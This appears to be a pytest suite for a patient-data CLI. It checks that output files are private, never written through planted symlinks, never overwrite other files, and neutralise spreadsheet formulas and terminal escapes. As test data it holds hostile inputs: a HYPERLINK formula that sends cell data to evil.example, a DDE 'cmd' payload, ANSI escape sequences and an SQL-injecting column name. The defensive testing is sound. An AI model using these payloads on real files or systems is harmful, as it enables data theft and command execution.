"""The files ``check`` writes hold patient data: private, never through a symlink, never
clobbering someone else's file, and safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import json
import os
import sqlite3
from pathlib import Path

import msgspec
import pytest

from tests.cli.helpers import FAST, cli, journal_file, read_csv, script_sandbox, write_input
from vclaim_async.cli import main, output
from vclaim_async.cli.common import CliError
from vclaim_async.cli.files import check_private
from vclaim_async.testing import VClaimSimulator

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"Klik")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1"]  # fmt: skip


def _rename_first(registry: VClaimSimulator, names: list[str]) -> tuple[list[str], object]:
    """Cards whose participants the sandbox will answer with ``names`` (server text)."""
    cards = registry.participants.cards()[: len(names)]

    def setup(sim: VClaimSimulator) -> None:
        for card, name in zip(cards, names, strict=True):
            person = sim.participants.get(card)
            assert person is not None
            sim.participants.add({**msgspec.to_builtins(person), "nama": name})

    return cards, setup


# -- formula injection ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "shown"),
    [(f, "'" + f.replace("\t", "\\t").replace("\r", "\\r")) for f in FORMULAS]
    + [("BUDI", "BUDI"), ("", ""), (None, None), (-5, -5)],
)
def test_csv_cell_neutralises_what_a_spreadsheet_would_run(cell: object, shown: object) -> None:
    assert output.csv_cell(cell) == shown  # type: ignore[arg-type]


def test_formulas_are_neutralised_in_csv_and_exact_in_jsonl_and_sqlite(
    tmp_path: Path, registry: VClaimSimulator, monkeypatch: pytest.MonkeyPatch
) -> None:
    cards, setup = _rename_first(registry, FORMULAS)
    script_sandbox(monkeypatch, setup)  # type: ignore[arg-type]
    source = tmp_path / "in.csv"
    with source.open("w", newline="", encoding="utf-8") as fh:
        rows = csv.writer(fh, lineterminator="\n")
        rows.writerow(["no_kartu", "catatan"])
        rows.writerows([card, f"=cmd|'/C calc'!A{n}"] for n, card in enumerate(cards))
        rows.writerow(["@SUM(1+1)", "-x"])  # the input column itself
    results = {}
    for suffix in ("csv", "jsonl", "sqlite"):
        out = tmp_path / f"out.{suffix}"
        args = ["check", *FAST, str(source), "--out", str(out), "--keep-columns", "-q"]
        assert main(args) == 0
        results[suffix] = out
    text = read_csv(results["csv"])
    shown = ["'" + f.replace("\t", "\\t").replace("\r", "\\r") for f in FORMULAS]
    assert [r["name"] for r in text[:-1]] == shown
    assert [r["catatan"] for r in text[:-1]] == [f"'=cmd|'/C calc'!A{n}" for n in range(6)]
    assert text[-1]["input"] == "'@SUM(1+1)" and text[-1]["catatan"] == "'-x"
    with results["csv"].open(newline="", encoding="utf-8") as fh:
        for record in list(csv.reader(fh))[1:]:
            for cell in record:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    jsonl = [json.loads(x) for x in results["jsonl"].read_text(encoding="utf-8").splitlines()]
    assert [r["name"] for r in jsonl[:-1]] == FORMULAS
    assert jsonl[-1]["input"] == "@SUM(1+1)" and jsonl[-1]["catatan"] == "-x"
    with sqlite3.connect(results["sqlite"]) as db:
        names = [r[0] for r in db.execute("SELECT name FROM results ORDER BY row LIMIT 6")]
        types = {r[1]: r[2] for r in db.execute("PRAGMA table_info(results)")}
        typed = db.execute(
            "SELECT typeof(row), typeof(attempts), typeof(latency_ms), typeof(name) "
            "FROM results ORDER BY row DESC LIMIT 1"
        ).fetchone()
    assert names == FORMULAS
    assert types["row"] == "INTEGER" and types["attempts"] == "INTEGER"
    assert types["latency_ms"] == "REAL" and types["input"] == types["catatan"] == "TEXT"
    assert typed == ("integer", "integer", "real", "null")  # the invalid row: no name, null


# -- private files -------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", ["csv", "jsonl", "sqlite"])
def test_every_file_is_created_0600_under_umask_022(
    tmp_path: Path, registry: VClaimSimulator, monkeypatch: pytest.MonkeyPatch, suffix: str
) -> None:
    source = tmp_path / "in.csv"
    write_input(source, registry.participants.cards()[:30])
    out = tmp_path / f"out.{suffix}"
    temps: list[int] = []
    real_replace = os.replace

    def replace(src: str | Path, dst: str | Path) -> None:
        temps.append(Path(src).stat().st_mode & 0o777)  # the temp file, before its rename
        real_replace(src, dst)

    monkeypatch.setattr(output.os, "replace", replace)
    old = os.umask(0o022)
    try:
        assert main(["check", *FAST, str(source), "--out", str(out), "--keep-journal", "-q"]) == 0
    finally:
        os.umask(old)
    assert temps and set(temps) == {0o600}
    written = sorted(p.name for p in tmp_path.iterdir() if p != source)
    assert written == [out.name, journal_file(out).name]  # no temp or side file left
    for name in written:
        assert (tmp_path / name).stat().st_mode & 0o777 == 0o600, name
    # The journal's -wal/-shm exist while it is open; SQLite gives them the database's mode
    # (kill -9 leaves them behind: tests/cli/test_journal.py checks those too).
    with sqlite3.connect(journal_file(out)) as db:
        db.execute("PRAGMA journal_mode=WAL")
        db.execute("INSERT INTO meta VALUES ('probe', 'x')")
        for side in ("-wal", "-shm"):
            mode = journal_file(out).with_name(journal_file(out).name + side).stat().st_mode
            assert mode & 0o777 == 0o600, side


# -- journal hijack ------------------------------------------------------------------------


def _cards_file(tmp_path: Path, registry: VClaimSimulator) -> Path:
    source = tmp_path / "in.txt"
    source.write_text("\n".join(registry.participants.cards()[:5]) + "\n", encoding="utf-8")
    return source


@pytest.mark.parametrize("target", ["journal", "journal-wal", "temp-name"])
def test_a_planted_symlink_is_never_followed(
    tmp_path: Path, registry: VClaimSimulator, target: str
) -> None:
    source = _cards_file(tmp_path, registry)
    out = tmp_path / "out.csv"
    victim = tmp_path / "attacker-owned.txt"
    victim.write_text("attacker\n", encoding="utf-8")
    planted = {
        "journal": journal_file(out),
        "journal-wal": journal_file(out).with_name(journal_file(out).name + "-wal"),
        "temp-name": tmp_path / ".out.csv.tmp",  # the old fixed temp name
    }[target]
    planted.symlink_to(victim)
    result = cli("check", *FAST, source, "--out", out)
    assert victim.read_text(encoding="utf-8") == "attacker\n"  # nothing written through it
    if target == "temp-name":
        assert result.returncode == 0, result.stderr  # temp files are mkstemp'd: random names
        assert planted.is_symlink()
    else:
        assert result.returncode == 1
        assert result.stderr.count("\n") == 1 and "symbolic link" in result.stderr
        assert not out.exists()


def test_a_journal_others_can_write_is_refused(tmp_path: Path, registry: VClaimSimulator) -> None:
    source = _cards_file(tmp_path, registry)
    out = tmp_path / "out.csv"
    kept = cli("check", *FAST, source, "--out", out, "--keep-journal", "--date", "2024-03-01")
    assert kept.returncode == 0, kept.stderr
    journal_file(out).chmod(0o666)
    again = cli("check", *FAST, source, "--out", out, "--date", "2024-03-01")
    assert again.returncode == 1 and "other users can write" in again.stderr


def test_a_file_of_another_user_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "x.sqlite"
    path.write_bytes(b"")
    path.chmod(0o600)
    info = path.stat()
    forged = os.stat_result((info.st_mode, *info[1:4], info.st_uid + 1, *info[5:]))
    with pytest.raises(CliError, match="belongs to another user"):
        check_private(path, forged, "journal")
    check_private(path, info, "journal")  # the same file, ours: fine


def test_an_unrelated_sqlite_file_at_the_journal_path_is_refused(
    tmp_path: Path, registry: VClaimSimulator
) -> None:
    source = _cards_file(tmp_path, registry)
    out = tmp_path / "out.csv"
    with sqlite3.connect(journal_file(out)) as db:
        db.execute("CREATE TABLE pasien (nama TEXT)")
    journal_file(out).chmod(0o600)
    result = cli("check", *FAST, source, "--out", out)
    assert result.returncode == 1 and "not a vclaim-async journal" in result.stderr


# -- clobbering ----------------------------------------------------------------------------


def _snapshot(paths: list[Path]) -> dict[str, tuple[bytes, int]]:
    return {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in paths}


def test_an_unrelated_sqlite_database_is_left_untouched(
    tmp_path: Path, registry: VClaimSimulator
) -> None:
    source = _cards_file(tmp_path, registry)
    hospital = tmp_path / "hospital.db"
    db = sqlite3.connect(hospital, isolation_level=None)
    try:
        db.execute("PRAGMA journal_mode=WAL")
        db.execute("CREATE TABLE pasien (no_rm TEXT, nama TEXT)")
        db.execute("INSERT INTO pasien VALUES ('RM1', 'SITI')")  # still in -wal: held open
        files = [hospital, *(hospital.with_name(hospital.name + s) for s in ("-wal", "-shm"))]
        assert all(p.exists() for p in files)
        before = _snapshot(files)
        refused = cli("check", *FAST, source, "--out", hospital)
        assert refused.returncode == 1 and refused.stderr.count("\n") == 1
        assert "not written by vclaim-async" in refused.stderr and "--force" in refused.stderr
        assert _snapshot(files) == before
        assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
            [source.name, *before]
        )  # no journal, no temp file
        assert db.execute("SELECT nama FROM pasien").fetchall() == [("SITI",)]
    finally:
        db.close()


@pytest.mark.parametrize("suffix", ["csv", "jsonl"])
def test_an_unrelated_text_file_needs_force(
    tmp_path: Path, registry: VClaimSimulator, suffix: str
) -> None:
    source = _cards_file(tmp_path, registry)
    out = tmp_path / f"notes.{suffix}"
    out.write_text("nama,diagnosa\nSITI,A09\n", encoding="utf-8")
    refused = cli("check", *FAST, source, "--out", out)
    assert refused.returncode == 1 and "--force" in refused.stderr
    assert out.read_text(encoding="utf-8") == "nama,diagnosa\nSITI,A09\n"
    forced = cli("check", *FAST, source, "--out", out, "--force")
    assert forced.returncode == 0, forced.stderr
    # Its own output (journal already removed) is recognised and replaced by the next run.
    again = cli("check", *FAST, source, "--out", out, "--date", "+1")
    assert again.returncode == 0, again.stderr


def test_temp_files_a_killed_run_left_are_removed_but_nothing_else(
    tmp_path: Path, registry: VClaimSimulator
) -> None:
    source = _cards_file(tmp_path, registry)
    out = tmp_path / "out.csv"
    left = tmp_path / ".out.csv.k3j9x_2a.tmp"  # what a kill during a rebuild leaves
    left.write_text("input,row\n", encoding="utf-8")
    left.chmod(0o600)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep\n", encoding="utf-8")
    planted = tmp_path / ".out.csv.zzzzzzzz.tmp"
    planted.symlink_to(victim)
    result = cli("check", *FAST, source, "--out", out)
    assert result.returncode == 0, result.stderr
    assert not left.exists()
    assert planted.is_symlink() and victim.read_text(encoding="utf-8") == "keep\n"


# -- control characters in cells -----------------------------------------------------------

HOSTILE = "BUDI\x1b]0;owned\x07\x1b[2J\x9b31m\x85\x7fSANTOSO\r\nX"


def test_control_characters_are_escaped_in_csv_and_jsonl_cells(
    tmp_path: Path, registry: VClaimSimulator, monkeypatch: pytest.MonkeyPatch
) -> None:
    cards, setup = _rename_first(registry, [HOSTILE])
    script_sandbox(monkeypatch, setup)  # type: ignore[arg-type]
    source = tmp_path / "in.csv"
    with source.open("w", newline="", encoding="utf-8") as fh:
        rows = csv.writer(fh, lineterminator="\n")
        rows.writerow(["no_kartu", "alamat"])
        rows.writerow([cards[0], "Jl. Merdeka\r\nNo. 5\x9b31m\x9d"])
    outs = {}
    for suffix in ("csv", "jsonl", "sqlite"):
        outs[suffix] = tmp_path / f"out.{suffix}"
        args = ["check", *FAST, str(source), "--out", str(outs[suffix]), "--keep-columns", "-q"]
        assert main(args) == 0
    text = outs["csv"].read_text(encoding="utf-8")
    assert len(text.splitlines()) == 2  # header and one row: no cell spans lines
    assert not any((ord(c) < 32 and c != "\n") or 0x7F <= ord(c) <= 0x9F for c in text)
    (row,) = read_csv(outs["csv"])
    assert row["name"] == "BUDI\\x1b]0;owned\\x07\\x1b[2J\\x9b31m\\x85\\x7fSANTOSO\\r\\nX"
    assert row["alamat"] == "Jl. Merdeka\\r\\nNo. 5\\x9b31m\\x9d"
    line = outs["jsonl"].read_text(encoding="utf-8")
    assert not any((ord(c) < 32 and c != "\n") or 0x7F <= ord(c) <= 0x9F for c in line)
    record = json.loads(line)
    assert record["name"] == HOSTILE and record["alamat"] == "Jl. Merdeka\r\nNo. 5\x9b31m\x9d"
    with sqlite3.connect(outs["sqlite"]) as db:  # SQLite keeps the exact text
        assert db.execute("SELECT name FROM results").fetchone() == (HOSTILE,)


# -- --keep-columns header names in SQL ------------------------------------------------------


def test_keep_columns_names_are_quoted_and_compared_case_insensitively(
    tmp_path: Path, registry: VClaimSimulator
) -> None:
    source = tmp_path / "in.csv"
    crafted = 'a" TEXT, "b'
    with source.open("w", newline="", encoding="utf-8") as fh:
        rows = csv.writer(fh, lineterminator="\n")
        rows.writerow(["no_kartu", crafted, "Status", "STATUS", "Row"])
        for card in registry.participants.cards()[:3]:
            rows.writerow([card, "x", "rawat jalan", "2", "r"])
    out = tmp_path / "out.sqlite"
    result = cli("check", *FAST, source, "--out", out, "--keep-columns", "-q")
    assert result.returncode == 0, result.stderr
    with sqlite3.connect(out) as db:
        names = [r[1] for r in db.execute("PRAGMA table_info(results)")]
        carried = db.execute(
            'SELECT "a"" TEXT, ""b", "input_Status", "input_STATUS_2", "input_Row" FROM results'
        ).fetchall()
    assert names[-4:] == [crafted, "input_Status", "input_STATUS_2", "input_Row"]
    assert "a" not in names and "b" not in names  # the header did not add columns
    assert carried == [("x", "rawat jalan", "2", "r")] * 3
    csv_out = tmp_path / "out.csv"
    assert cli("check", *FAST, source, "--out", csv_out, "--keep-columns", "-q").returncode == 0
    with csv_out.open(encoding="utf-8", newline="") as fh:
        header = next(csv.reader(fh))
    assert header[-4:] == [crafted, "input_Status", "input_STATUS_2", "input_Row"]


# -- a full disk -----------------------------------------------------------------------------


def _fail_after(monkeypatch: pytest.MonkeyPatch, owner: object, name: str, calls: int,
                error: BaseException) -> None:  # fmt: skip
    real = getattr(owner, name)
    seen = [0]

    def failing(self: object, *args: object) -> object:
        seen[0] += 1
        if seen[0] > calls:
            raise error
        return real(self, *args)

    monkeypatch.setattr(owner, name, failing)


@pytest.mark.parametrize("where", ["output", "journal"])
def test_a_full_disk_is_one_line_and_loses_nothing(
    tmp_path: Path,
    registry: VClaimSimulator,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    where: str,
) -> None:
    import errno

    from vclaim_async.cli.journal import Journal

    cards = registry.participants.cards()[:600]
    source = tmp_path / "in.csv"
    lines = write_input(source, cards)
    out = tmp_path / "out.csv"
    command = ["check", "--sandbox", "--sandbox-latency", "0.002", str(source), "--out", str(out),
               "--keep-journal", "-q"]  # fmt: skip
    if where == "output":
        full = OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        _fail_after(monkeypatch, output._TextWriter, "write_many", 2, full)
    else:
        disk = sqlite3.OperationalError("database or disk is full")
        _fail_after(monkeypatch, Journal, "commit", 2, disk)
    assert main(command) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("vclaim-async: error: cannot write")  # one line
    assert "disk is full" in err and "rerun the same command" in err
    with sqlite3.connect(journal_file(out)) as db:
        (kept,) = db.execute("SELECT count(*) FROM results").fetchone()
    assert 0 < kept < 600
    monkeypatch.undo()  # space again
    served: list[VClaimSimulator] = []
    script_sandbox(monkeypatch, served.append)
    assert main(command) == 0
    rows = read_csv(out)
    assert [int(r["row"]) for r in rows] == sorted(lines)
    assert all(r["input"] == lines[int(r["row"])] for r in rows)
    # Nothing journaled before the failure was asked again.
    assert served[0].served == 600 - kept
